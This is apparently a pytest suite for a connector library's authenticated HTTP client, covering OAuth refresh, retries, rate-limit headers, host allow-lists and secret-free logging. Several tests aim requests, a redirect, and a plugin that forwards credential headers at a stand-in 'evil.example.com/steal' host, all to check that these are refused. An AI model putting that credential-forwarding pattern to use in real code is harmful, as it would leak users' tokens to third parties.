"""The authenticated client against a local provider API: refresh and replay, retries, hosts.

Every log record of every test here, from every logger at every level, is
scanned for the secrets the test used: none may appear.
"""

from __future__ import annotations

import hashlib
import hmac
import logging
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import anyio
import attrs
import httpx2
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse
from starlette.routing import Route

from connectors_core import (
    HostNotAllowedError,
    IntegrationError,
    NeedsReauthError,
    NotConnectedError,
    Registry,
    define_connector,
    hookimpl,
)
from connectors_core.connections import Connections, Settings
from connectors_core.connections._client import RETRY, retry_after
from connectors_core.store import generate_key, open_store
from connectors_core.testing.oauth_provider import ALL_GRANTS, Client, OAuthProvider, running
from tests.harness import serve
from tests.helpers import without_id

TENANT = "tenant-a"
ORIGIN = "http://127.0.0.1:8000"
CLIENT_SECRET = "client-secret-9f2c41d7e0"
API_KEY = "live-key-7b1e02c9d4a8f356"


@attrs.define
class World:
    provider: OAuthProvider
    url: str
    connections: Connections
    secrets: list[str]

    def connect(self, connector_id: str = "acme-api") -> None:
        """Through the provider's consent, as a user would."""
        begun = anyio.run(self.connections.begin_oauth, TENANT, connector_id, "session")
        with httpx2.Client(follow_redirects=False) as browser:
            answer = browser.get(begun)
        params = dict(parse_qsl(urlsplit(answer.headers["location"]).query))
        anyio.run(self.connections.finish_oauth, connector_id, TENANT, "session", params)

    def token(self) -> str:
        stored = anyio.run(self.connections.store.get, TENANT, "acme-api")
        assert stored is not None
        assert stored.tokens is not None
        return stored.tokens.access_token

    def revoke(self, token: str) -> None:
        with httpx2.Client() as http:
            http.post(
                f"{self.url}/api/oauth/revoke", data={"token": token}, auth=("c", CLIENT_SECRET)
            ).raise_for_status()

    def status(self, connector_id: str = "acme-api") -> Any:
        return anyio.run(self.connections.status, TENANT, connector_id)


def manifest(connector_id: str, auth: dict[str, Any], api: dict[str, Any], **extra: Any) -> Any:
    return define_connector(
        id=connector_id,
        name=connector_id.title(),
        summary="S.",
        description="S.",
        category="custom",
        status="available",
        auth=auth,
        api=api,
        capabilities=[{"id": "x", "label": "X"}],
        connection={"startPath": f"/api/integrations/{connector_id}/connect"},
        **extra,
    )


@pytest.fixture
def world(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> Iterator[World]:
    caplog.set_level(logging.DEBUG)
    provider = OAuthProvider(
        clients=[
            Client(
                "c",
                CLIENT_SECRET,
                (f"{ORIGIN}/api/integrations/acme-api/callback",),
                ("read",),
                ALL_GRANTS,
            )
        ]
    )
    provider.api_credentials.add(API_KEY)
    with running(provider) as url:
        api = f"{url}/connector-api"
        oauth = {
            "type": "oauth",
            "authorizeUrl": f"{url}/oauth/authorize",
            "tokenUrl": f"{url}/api/oauth/token",
            "scopes": ["read"],
        }
        registry = Registry()
        registry.register(
            manifest(
                "acme-api",
                oauth,
                {"baseUrl": api, "headers": {"X-Api-Version": "2"}, "retry": {"maxWaitSeconds": 3}},
            )
        )
        registry.register(
            manifest(
                "acme-keyed",
                {"type": "api-key", "description": "K.", "queryParam": "api_key"},
                {"baseUrl": f"{api}/ws/{{team}}"},
                fields=[{"id": "team", "label": "Team", "pattern": "[a-z-]+"}],
            )
        )
        registry.register(manifest("acme-none", {"type": "none"}, {"baseUrl": api}))
        registry.register(
            define_connector(
                {
                    **registry.get("acme-none").to_wire(),
                    "id": "acme-bare",
                    "connection": {"startPath": "/api/integrations/acme-bare/connect"},
                    "api": None,
                }
            )
        )
        settings = Settings(
            public_url=ORIGIN,
            database_url=f"sqlite:///{tmp_path / 'c.sqlite3'}",
            secret_keys=(generate_key(),),
            environ={
                "CONNECTORS_ACME_API_CLIENT_ID": "c",
                "CONNECTORS_ACME_API_CLIENT_SECRET": CLIENT_SECRET,
            },
        )
        connections = Connections(registry, open_store(settings), settings)
        found = World(provider, url, connections, [CLIENT_SECRET, API_KEY])
        yield found
        anyio.run(connections.aclose)
    # The scan: no token the provider issued, no key, no client secret, anywhere.
    logged = "\n".join(
        f"{record.name} {record.getMessage()} {record.exc_text or ''}" for record in caplog.records
    )
    for secret in [*found.secrets, *provider.issued]:
        assert secret not in logged, "a secret reached a log line"


def get(world: World, path: str, connector_id: str = "acme-api", **options: Any) -> Any:
    async def call() -> Any:
        async with world.connections.client(TENANT, connector_id) as http:
            response = await http.get(path, **options)
            return response, response.request

    return anyio.run(call)


def test_a_request_carries_the_credentials_and_what_the_job_holds_carries_none(
    world: World,
) -> None:
    world.connect()
    world.provider.answer_api("/things", {"things": [1, 2]})
    response, request = get(world, "/things")
    assert (response.status_code, response.json()) == (200, {"things": [1, 2]})
    assert world.provider.api_requests == [("GET", "/things")]
    assert "authorization" not in request.headers
    assert request.headers["x-api-version"] == "2"
    assert str(request.url) == f"{world.url}/connector-api/things"


def test_a_401_once_renews_once_and_replays_once(world: World) -> None:
    world.connect()
    world.revoke(world.token())  # the access token dies before it expires
    response, _request = get(world, "/things")
    assert response.status_code == 200
    assert world.provider.token_requests == ["authorization_code", "refresh_token"]
    assert world.provider.api_requests == [("GET", "/things")] * 2
    assert world.status()["status"]["lastRefreshedAt"]


def test_a_401_after_the_renewal_marks_the_connection_needs_reauth(world: World) -> None:
    world.connect()
    world.provider.answer_api("/things", {"error": "invalid_token"}, status=401)
    with pytest.raises(NeedsReauthError) as info:
        get(world, "/things")
    assert info.value.cause == "revoked"
    assert world.provider.token_requests == ["authorization_code", "refresh_token"]
    assert world.provider.api_requests == [("GET", "/things")] * 2
    assert without_id(world.status()) == {
        "connected": False,
        "error": "needs_reauth",
        "reason": "revoked",
    }
    with pytest.raises(NeedsReauthError):
        get(world, "/other")


def test_a_refused_api_key_cannot_be_renewed_and_needs_the_user(world: World) -> None:
    anyio.run(
        world.connections.connect, TENANT, "acme-keyed", {"team": "a-team", "api_key": "k" * 20}
    )
    world.secrets.append("k" * 20)
    with pytest.raises(NeedsReauthError) as info:
        get(world, "/things", "acme-keyed")
    assert info.value.cause == "invalid_credentials"
    assert world.provider.api_requests == [("GET", "/ws/a-team/things")]  # no replay
    assert world.status("acme-keyed")["reason"] == "invalid_credentials"


def test_an_api_key_in_the_query_reaches_the_api_and_no_log_or_exception(world: World) -> None:
    anyio.run(
        world.connections.connect, TENANT, "acme-keyed", {"team": "a-team", "api_key": API_KEY}
    )
    world.provider.answer_api("/ws/a-team/missing", {"error": "nope"}, status=404)
    response, request = get(world, "/missing", "acme-keyed")
    assert response.status_code == 404
    assert world.provider.api_requests == [("GET", "/ws/a-team/missing")]
    assert API_KEY not in str(request.url)
    with pytest.raises(httpx2.HTTPStatusError) as info:
        response.raise_for_status()
    assert API_KEY not in str(info.value)


def test_retry_after_is_honoured_within_its_cap(world: World) -> None:
    world.connect()
    world.provider.answer_api("/busy", {"ok": True})
    world.provider.answer_api("/busy", status=429, headers={"Retry-After": "2"}, times=1)
    response, _request = get(world, "/busy")
    assert response.status_code == 200
    first, second = world.provider.api_request_times
    assert second - first >= 1.9  # waited what the provider asked
    # Beyond the cap (maxWaitSeconds 3): the answer comes back as it is, at once.
    world.provider.answer_api("/busier", status=429, headers={"Retry-After": "60"})
    started = time.monotonic()
    response, _request = get(world, "/busier")
    assert response.status_code == 429
    assert world.provider.api_requests.count(("GET", "/busier")) == 1
    assert time.monotonic() - started < 30


def test_a_post_is_not_tried_again_unless_asked(world: World) -> None:
    world.connect()
    world.provider.answer_api("/orders", {"id": 7}, method="POST", status=201)
    world.provider.answer_api("/orders", status=503, method="POST", times=1)

    async def post(**options: Any) -> int:
        async with world.connections.client(TENANT, "acme-api") as http:
            return (await http.post("/orders", json={"n": 1}, **options)).status_code

    assert anyio.run(post) == 503
    assert world.provider.api_requests.count(("POST", "/orders")) == 1
    world.provider.answer_api("/orders", status=503, method="POST", times=1)
    assert anyio.run(lambda: post(extensions={RETRY: True})) == 201
    assert world.provider.api_requests.count(("POST", "/orders")) == 3
    # A GET is tried again without being asked.
    world.provider.answer_api("/orders", status=502, times=2)
    response, _request = get(world, "/orders")
    assert response.status_code == 200
    assert world.provider.api_requests.count(("GET", "/orders")) == 3


def test_another_host_is_refused_before_anything_is_sent(world: World) -> None:
    world.connect()
    idle = socket.socket()
    idle.bind(("127.0.0.1", 0))  # a port nobody answers on: sending would fail differently
    port = idle.getsockname()[1]
    try:
        for url in (f"http://127.0.0.1:{port}/steal", "https://evil.example.com/steal"):
            with pytest.raises(HostNotAllowedError) as info:
                get(world, url)
            assert info.value.reason == "host_not_allowed"
    finally:
        idle.close()
    assert world.provider.api_requests == []


def test_a_redirect_to_another_host_is_refused(world: World) -> None:
    world.connect()
    world.provider.answer_api(
        "/moved", status=302, headers={"Location": "https://evil.example.com/"}
    )
    response, _request = get(world, "/moved")  # not followed: the job sees the redirect
    assert response.status_code == 302
    with pytest.raises(HostNotAllowedError):
        get(world, "/moved", follow_redirects=True)
    # A redirect on the same host is followed, with the credentials.
    world.provider.answer_api("/old", status=307, headers={"Location": "/connector-api/new"})
    world.provider.answer_api("/new", {"here": True})
    response, _request = get(world, "/old", follow_redirects=True)
    assert response.json() == {"here": True}


def test_a_transport_error_is_tried_again_then_raised(world: World, caplog: Any) -> None:
    world.connect()
    dead = socket.socket()
    dead.bind(("127.0.0.1", 0))
    port = dead.getsockname()[1]
    dead.close()  # nothing listens there now
    settings = attrs.evolve(
        world.connections.settings,
        environ={
            **world.connections.settings.environ,
            "CONNECTORS_ACME_API_API_BASE_URL": f"http://127.0.0.1:{port}",
        },
    )
    moved = Connections(world.connections.registry, world.connections.store, settings)

    async def call() -> None:
        async with moved.client(TENANT, "acme-api") as http:
            await http.get("/things")

    with pytest.raises(httpx2.ConnectError):
        anyio.run(call)
    retries = [r for r in caplog.records if "trying again" in r.getMessage()]
    assert len(retries) == 2  # three attempts in all


def test_entering_a_client_says_what_is_wrong_first(world: World) -> None:
    with pytest.raises(NotConnectedError):
        get(world, "/things")
    anyio.run(world.connections.connect, TENANT, "acme-bare", {})
    with pytest.raises(IntegrationError) as info:
        get(world, "/things", "acme-bare")
    assert info.value.reason == "no_api"


def test_many_concurrent_requests_with_an_expired_token_renew_once(world: World) -> None:
    world.connect()
    world.provider.clock_offset += 4000  # every token issued so far has expired
    world.connections._clock = lambda: time.time() + 4000

    async def many() -> list[int]:
        statuses: list[int] = []
        async with world.connections.client(TENANT, "acme-api") as http:

            async def one() -> None:
                statuses.append((await http.get("/things")).status_code)

            async with anyio.create_task_group() as group:
                for _ in range(50):
                    group.start_soon(one)
        return statuses

    assert anyio.run(many) == [200] * 50
    assert world.provider.token_requests == ["authorization_code", "refresh_token"]


def test_the_sync_client_does_the_same(world: World) -> None:
    world.connect()
    world.provider.answer_api("/things", {"n": 1})
    world.revoke(world.token())
    with world.connections.sync_client(TENANT, "acme-api") as http:
        response = http.get("/things")
        assert (response.status_code, response.json()) == (200, {"n": 1})
        assert "authorization" not in response.request.headers
        with pytest.raises(HostNotAllowedError):
            http.get("https://evil.example.com/")
    assert world.provider.token_requests == ["authorization_code", "refresh_token"]


def test_retry_after_reads_seconds_dates_and_reset_times() -> None:
    now = 1_700_000_000.0
    assert retry_after("120", now) == 120
    assert retry_after(" 1.5 ", now) == 1.5
    assert retry_after("Tue, 14 Nov 2023 22:13:30 GMT", now) == 10
    assert retry_after(str(int(now) + 30), now) == 30  # X-RateLimit-Reset: UNIX seconds
    assert retry_after(str(int(now * 1000) + 4000), now) == 4  # milliseconds
    assert retry_after(str(int(now) - 30), now) == 0  # already past
    for junk in ("soon", "-5", "nan", ""):
        assert retry_after(junk, now) is None


# --- a plugin signs requests -----------------------------------------------------------


class Signer:
    """A plugin that signs every request with the connection's secret field."""

    @hookimpl
    def prepare_request(self, connector: Any, connection: Any, request: Any) -> None:
        key = connection.secrets["signing_key"].encode()
        stamp = str(time.time_ns())
        message = f"{request.method} {request.url.path} {stamp}".encode()
        request.headers["X-Stamp"] = stamp
        request.headers["X-Signature"] = hmac.new(key, message, hashlib.sha256).hexdigest()


def test_prepare_request_signs_every_attempt(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    from connectors_core._loading import new_manager, register

    seen: list[tuple[str, bool]] = []
    key = "signing-key-3c9d2e7f1a"
    world.secrets.append(key)
    busy = [True]

    async def endpoint(request: Request) -> JSONResponse:
        stamp, signature = request.headers.get("x-stamp", ""), request.headers.get("x-signature")
        message = f"{request.method} {request.url.path} {stamp}".encode()
        valid = signature == hmac.new(key.encode(), message, hashlib.sha256).hexdigest()
        seen.append((stamp, valid and request.headers.get("x-key") == API_KEY))
        if busy.pop() if busy else False:
            return JSONResponse({}, 503)
        return JSONResponse({"signed": valid})

    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    base = f"http://127.0.0.1:{sock.getsockname()[1]}"
    connector = manifest(
        "acme-signed",
        {"type": "api-key", "description": "K.", "headerName": "X-Key"},
        {"baseUrl": base},
        fields=[{"id": "signing_key", "label": "Signing key", "type": "secret"}],
    )
    registry = Registry()
    registry.register(connector)
    connections = Connections(registry, world.connections.store, world.connections.settings)
    manager = new_manager()
    register(manager, Signer(), "signer")

    async def plugin_hooks(_connector: Any) -> Any:
        return manager.hook

    monkeypatch.setattr(connections, "plugin_hooks", plugin_hooks)
    with serve(Starlette(routes=[Route("/ping", endpoint)]), sock):
        anyio.run(
            connections.connect, TENANT, "acme-signed", {"signing_key": key, "api_key": API_KEY}
        )

        async def call() -> Any:
            async with connections.client(TENANT, "acme-signed") as http:
                return (await http.get("/ping")).json()

        assert anyio.run(call) == {"signed": True}
    assert [valid for _stamp, valid in seen] == [True, True]
    assert seen[0][0] != seen[1][0]  # signed afresh for the second attempt


def test_testing_refused_tokens_renews_once_and_then_needs_the_user(world: World) -> None:
    # The "Test connection" button treats refused tokens as the client does.
    connector = world.connections.registry.get("acme-api")
    with_verify = define_connector(
        {**connector.to_wire(), "verify": {"path": "/me", "account": {"who": "id"}}}
    )
    registry = Registry()
    registry.register(with_verify)
    connections = Connections(registry, world.connections.store, world.connections.settings)
    world.connect()
    world.provider.answer_api("/me", {"id": "u-1"})
    world.revoke(world.token())  # refused once: renewed, and then it passes
    status = anyio.run(connections.verify, TENANT, "acme-api")
    assert status["status"]["who"] == "u-1"
    assert world.provider.token_requests == ["authorization_code", "refresh_token"]
    world.provider.answer_api("/me", {"error": "invalid_token"}, status=401)
    with pytest.raises(NeedsReauthError) as info:
        anyio.run(connections.verify, TENANT, "acme-api")
    assert info.value.cause == "revoked"
    assert world.status()["reason"] == "revoked"


# --- what a review found ---------------------------------------------------------------


def test_a_redirect_or_link_never_hands_the_query_key_to_the_job(world: World) -> None:
    anyio.run(
        world.connections.connect, TENANT, "acme-keyed", {"team": "a-team", "api_key": API_KEY}
    )
    # A server that keeps the query when it redirects, and links the next page with it.
    world.provider.answer_api(
        "/ws/a-team/old",
        status=301,
        headers={"Location": f"{world.url}/connector-api/ws/a-team/new?page=2&api_key={API_KEY}"},
    )
    world.provider.answer_api(
        "/ws/a-team/new",
        {"ok": True},
        headers={
            "Link": f"<{world.url}/connector-api/ws/a-team/new?page=3&api_key={API_KEY}>; "
            'rel="next"'
        },
    )
    response, request = get(world, "/old", "acme-keyed", follow_redirects=True)
    assert response.json() == {"ok": True}
    seen = [str(response.url), str(request.url), response.headers["link"]]
    seen += [h.headers.get("location", "") for h in response.history]
    assert all(API_KEY not in text for text in seen), seen
    assert "page=3" in response.headers["link"]
    # The key still reached the API on every hop (the transport puts it back).
    assert world.provider.api_requests == [("GET", "/ws/a-team/old"), ("GET", "/ws/a-team/new")]


def test_the_sync_client_reads_a_compressed_answer(world: World) -> None:
    from starlette.middleware.gzip import GZipMiddleware

    async def big(request: Request) -> JSONResponse:
        return JSONResponse({"items": list(range(2000))})

    app = Starlette(routes=[Route("/big", big)])
    app.add_middleware(GZipMiddleware, minimum_size=10)
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    registry = Registry()
    registry.register(
        manifest(
            "acme-gz",
            {"type": "api-key", "description": "K.", "headerName": "X-Key"},
            {"baseUrl": f"http://127.0.0.1:{sock.getsockname()[1]}"},
        )
    )
    connections = Connections(registry, world.connections.store, world.connections.settings)
    with serve(app, sock):
        anyio.run(connections.connect_api_key, TENANT, "acme-gz", API_KEY)
        with connections.sync_client(TENANT, "acme-gz") as http:
            answer = http.get("/big")
    assert answer.headers["content-encoding"] == "gzip"
    assert answer.json()["items"][-1] == 1999


def test_a_connector_without_credentials_is_not_marked_by_a_401(world: World) -> None:
    anyio.run(world.connections.connect, TENANT, "acme-none", {})
    response, _request = get(world, "/anything", "acme-none")  # the API wants a credential
    assert response.status_code == 401
    assert world.status("acme-none")["connected"] is True


def test_only_the_base_hosts_refusals_speak_for_the_credentials() -> None:
    from connectors_core.connections._client import _Policy

    connector = manifest(
        "acme-cdn",
        {"type": "api-key", "description": "K.", "headerName": "X-Key"},
        {"baseUrl": "https://api.example.com/v1", "allowedHosts": ["*.files.example.com"]},
    )
    policy = _Policy.of(connector, connector.api, "https://api.example.com/v1", False)
    assert policy.on_base(httpx2.URL("https://api.example.com/v1/x"))
    assert not policy.on_base(httpx2.URL("https://eu.files.example.com/f"))
    policy.check(httpx2.URL("https://eu.files.example.com/f"))
    for refused in ("https://files.example.com/f", "https://api.example.com:8443/v1"):
        with pytest.raises(HostNotAllowedError):
            policy.check(httpx2.URL(refused))


def test_hosts_compare_as_written_in_idna_and_ipv6_loopback_works() -> None:
    from connectors_core.connections._client import _Policy

    connector = manifest(
        "acme-idn",
        {"type": "api-key", "description": "K.", "headerName": "X-Key"},
        {"baseUrl": "http://[::1]:8123/v1", "allowedHosts": ["xn--bcher-kva.example.com"]},
    )
    policy = _Policy.of(connector, connector.api, "http://[::1]:8123/v1", False)
    policy.check(httpx2.URL("http://[::1]:8123/v1/x"))
    policy.check(httpx2.URL("https://bücher.example.com/x"))
    with pytest.raises(HostNotAllowedError, match=r"\[::1\]:9999"):
        policy.check(httpx2.URL("http://[::1]:9999/v1/x"))


def test_retry_after_wins_and_a_reset_header_counts_only_for_a_rate_limit() -> None:
    from connectors_core.connections._client import _Policy

    connector = manifest(
        "acme-rl",
        {"type": "api-key", "description": "K.", "headerName": "X-Key"},
        {
            "baseUrl": "https://api.example.com",
            "retry": {"retryAfterHeaders": ["Retry-After", "X-RateLimit-Reset"]},
        },
    )
    policy = _Policy.of(connector, connector.api, "https://api.example.com", False)
    now = 1_700_000_000.0
    reset = {"X-RateLimit-Reset": str(int(now) + 40)}
    both = httpx2.Response(429, headers={"Retry-After": "3", **reset})
    assert policy.wait(both, 1, now) == 3
    assert policy.wait(httpx2.Response(429, headers=reset), 1, now) == 40
    # A 502 carrying the rate limit's reset (as GitHub's do) is tried again soon.
    pause = policy.wait(httpx2.Response(502, headers=reset), 1, now)
    assert pause is not None
    assert pause < 1


def test_a_plugin_may_not_send_the_credentials_elsewhere(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    from connectors_core._loading import new_manager, register

    class Redirector:
        @hookimpl
        def prepare_request(self, request: Any) -> Any:
            return httpx2.Request("GET", "https://evil.example.com/steal", headers=request.headers)

    manager = new_manager()
    register(manager, Redirector(), "redirector")

    async def plugin_hooks(_connector: Any) -> Any:
        return manager.hook

    monkeypatch.setattr(world.connections, "plugin_hooks", plugin_hooks)
    world.connect()
    with pytest.raises(HostNotAllowedError):
        get(world, "/things")


def test_an_open_client_stops_using_a_connection_disconnected_meanwhile(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    from connectors_core.connections import _client

    monkeypatch.setattr(_client, "_RECHECK", 0.0)
    world.connect()

    async def call() -> None:
        async with world.connections.client(TENANT, "acme-api") as http:
            assert (await http.get("/things")).status_code == 200
            await world.connections.disconnect(TENANT, "acme-api")
            await http.get("/things")

    with pytest.raises(NotConnectedError):
        anyio.run(call)
    assert world.provider.api_requests == [("GET", "/things")]
